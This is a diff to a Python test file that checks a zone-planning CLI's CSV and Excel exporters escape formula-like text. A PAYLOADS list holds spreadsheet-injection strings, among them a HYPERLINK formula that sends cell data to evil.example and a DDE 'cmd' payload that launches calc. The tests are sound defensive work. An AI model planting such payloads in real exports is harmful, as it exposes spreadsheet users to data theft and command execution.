@@ -1,20 +1,26 @@
-"""Outputs: ``--out`` is checked before any work on every verb that writes, and temporary files
-name their writer's process so the next writer removes those a killed writer left."""
+"""Outputs: ``--out`` is checked before any work on every verb that writes; temporary files
+name their writer's process so the next writer removes those a killed writer left; and every
+CSV and Excel writer keeps formula-like text (``=HYPERLINK(...)`` as a zone name) as text."""
 
 from __future__ import annotations
 
+import csv
+import json
 import os
 import re
 import subprocess
 import sys
 from pathlib import Path
 
+import openpyxl
+import pandas as pd
 import pytest
-from cli_runner import run
-from land_cases import EXAMPLE, ROOT, SMALL
+from cli_runner import run, write
+from land_cases import EXAMPLE, ROOT, SMALL, small4
 
 import zoneopt.instance
 from zoneopt.files import atomic_write, atomic_write_text, remove_stale_temporaries
+from zoneopt.plans import FORMULA_START, csv_escaped, is_formula_like
 
 YEARS = ROOT / "instances" / "henan-etdz-45-years.json"
 PARKS = ROOT / "instances" / "henan-parks-180.json"
@@ -152,6 +158,122 @@ def test_the_next_writer_removes_what_a_killed_writer_left(tmp_path: Path) -> No
         assert alive_tmp in left  # its writer is still at work
         assert ".notes.tmp" in left and "plan.json" in left and "third.json" in left
     finally:
-        alive.kill()
-        alive.wait(timeout=30)
+        for proc in (killed, alive):
+            proc.kill()
+            proc.wait(timeout=30)
+            proc.stdout.close()  # type: ignore[union-attr]
     assert remove_stale_temporaries(tmp_path) == [tmp_path / alive_tmp]
+
+
+# -- spreadsheets: text stays text --------------------------------------------------------------
+
+PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+            "\tx", "\rx"]
+
+
+def _poisoned(tmp_path: Path) -> Path:
+    """small-4 with formula-like zone names, counties, rule, scenario, evaluation and criterion
+    names, and the sections every writing verb needs (years, management, locations)."""
+    data = small4()
+    for z, name, xy in zip(data["zones"], PAYLOADS, [(0, 0), (5, 0), (0, 5), (50, 50)], strict=False):
+        z.update(name=name, county=f"=c{z['id']}", location={"x_km": xy[0], "y_km": xy[1]})
+    for k, name in ((4, PAYLOADS[4]), (5, PAYLOADS[5])):  # a tab and a carriage return first
+        data["zones"].append({"id": f"z{k}", "name": name, "city": "P", "land_area_mu": 10, "metrics": {"tax": 1},
+                              "score": 1, "location": {"x_km": 90 * k, "y_km": 90}, "county": f"+c{k}"})
+    data["rules"][0]["id"] = "=req"
+    data["scenarios"] = [{"id": "=scn", "pools": {"land": {"total_mu": 900}}}]
+    data["evaluations"] = [{"id": "=ev", "weighting": {"method": "fixed"},
+                            "criteria": [{"name": '=HYPERLINK("x")', "of": "tax_per_mu", "weight": 1}]}]
+    data["periods"] = {"years": [2021, 2022]}
+    data["management"] = {"history": {"years": [2019, 2020],
+                                      "scores": {"a": [90, 90], "b": [80, 80], "c": [70, 70], "d": [10, 10]}},
+                          "warning": {"id": "=warn", "bottom_rank": 1}}
+    data["consolidation"] = {}
+    return write(tmp_path, data, "poisoned.json")
+
+
+def _formula_like(text: str) -> bool:
+    return text.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def _check_workbook(path: Path) -> set[str]:
+    """No cell is a formula; every formula-like text is a string with Excel's quote prefix."""
+    texts: set[str] = set()
+    for ws in openpyxl.load_workbook(path):
+        for row in ws.iter_rows():
+            for c in row:
+                assert c.data_type != "f", (path.name, ws.title, c.coordinate, c.value)
+                if isinstance(c.value, str) and _formula_like(c.value):
+                    assert c.data_type == "s" and c.quotePrefix, (path.name, ws.title, c.coordinate, c.value)
+                    texts.add(c.value)
+    return texts
+
+
+def _check_csv(path: Path) -> set[str]:
+    """No field starts like a formula but numbers; formula-like text comes with a quote in front."""
+    with path.open(encoding="utf-8-sig", newline="") as f:
+        fields = [field for row in csv.reader(f) for field in row]
+    assert not [v for v in fields if _formula_like(v) and not _number(v)], path.name
+    return {v[1:] for v in fields if v.startswith("'")}
+
+
+@pytest.mark.parametrize(("verb", "suffixes", "must_show"), [
+    ("solve", (".xlsx", ".csv"), {PAYLOADS[0], "=req"}),
+    ("evaluate", (".xlsx", ".csv"), {PAYLOADS[1], '=HYPERLINK("x")'}),
+    ("compare", (".xlsx", ".csv"), {PAYLOADS[2], "=scn"}),
+    ("plan-years", (".xlsx", ".csv"), {PAYLOADS[0]}),
+    ("manage", (".xlsx", ".csv"), {"=warn"}),
+    ("consolidate", (".xlsx", ".csv"), {"=ca", PAYLOADS[4], PAYLOADS[5]}),
+])
+def test_every_writer_keeps_formula_like_text_as_text(tmp_path: Path, verb: str, suffixes: tuple[str, ...],
+                                                      must_show: set[str]) -> None:
+    """Once ``=HYPERLINK(...)`` as a zone name was a live formula in plan.xlsx and bare in CSV."""
+    path = _poisoned(tmp_path)
+    for suffix in suffixes:
+        target = tmp_path / f"out{suffix}"
+        code, out, err = run(verb, str(path), "--out", str(target))
+        assert code == 0, err
+        shown = _check_workbook(target) if suffix == ".xlsx" else _check_csv(target)
+        if suffix == ".xlsx" or verb != "manage":
+            assert must_show & shown, (verb, suffix, sorted(shown))
+
+
+def test_the_plan_set_and_the_report_keep_text_as_text(tmp_path: Path) -> None:
+    path = _poisoned(tmp_path)
+    data = json.loads(path.read_text(encoding="utf-8"))
+    for z in data["zones"]:
+        z["metrics"]["energy_reduction_tce"] = 10.0
+    data["pools"]["emissions"] = {"pollutants": {"SO2": {"total_t": 10}}}
+    both = write(tmp_path, data, "both.json")
+    code, out, err = run("solve", str(both), "--out", str(tmp_path / "set.xlsx"))
+    assert code == 0, err
+    assert PAYLOADS[0] in _check_workbook(tmp_path / "set.xlsx")
+    code, out, err = run("solve", str(both), "--out", str(tmp_path / "set.csv"))
+    assert code == 0 and PAYLOADS[0] in _check_csv(tmp_path / "set.csv"), err
+    data["zones"] = data["zones"][:4]  # not the tab and the carriage return: no font draws them in a chart
+    del data["pools"]["emissions"]
+    code, out, err = run("report", str(write(tmp_path, data, "r.json")), "--out", str(tmp_path / "report"),
+                         "--no-rule-costs", "--points", "3")
+    assert code == 0, err
+    assert {PAYLOADS[0], "=req"} <= _check_workbook(tmp_path / "report" / "report.xlsx")
+
+
+def test_the_escaping_touches_text_only() -> None:
+    frame = pd.DataFrame({"=col": ["=1+1", "ok", None, "-x"], "n": [-1.5, 2.0, 3.0, 4.0],
+                          "b": [True, False, True, False]})
+    safe = csv_escaped(frame)
+    assert list(safe.columns) == ["'=col", "n", "b"]
+    assert safe["'=col"].tolist()[:2] == ["'=1+1", "ok"] and safe["'=col"].iloc[3] == "'-x"
+    assert safe["n"].tolist() == [-1.5, 2.0, 3.0, 4.0] and safe["b"].dtype == bool
+    assert frame["=col"].iloc[0] == "=1+1"  # the frame itself is not changed
+    plain = pd.DataFrame({"a": ["x", "y"], "n": [-1, 2]})
+    assert csv_escaped(plain) is plain
+    assert all(is_formula_like(c) for c in FORMULA_START) and not is_formula_like(-3)
